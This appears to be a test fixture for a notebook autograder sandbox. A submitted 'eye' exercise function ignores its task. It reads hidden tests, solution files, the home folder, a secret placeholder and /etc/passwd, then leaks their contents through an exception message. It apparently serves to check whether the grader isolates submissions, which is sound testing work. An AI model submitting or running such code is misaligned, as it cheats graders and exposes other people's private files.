"""The hidden tests, another student's notebook, the gradebook and the home folder."""

UNPROTECTED = "reads"


# %% exercise="eye"
@extend(Tensor)
@classmethod
def eye(cls, n, m=None):
    import glob
    import os

    said = []
    for pattern in (
        "@SECRET@",
        "@ROOT@/tests/01_tensor/*",
        "@ROOT@/solutions/*",
        os.path.expanduser("~/*"),
        "/etc/passwd",
    ):
        for path in [*glob.glob(pattern), pattern]:
            try:
                with open(path) as file:
                    said.append(file.read(100))
            except OSError:
                pass
    raise ValueError(str(said))
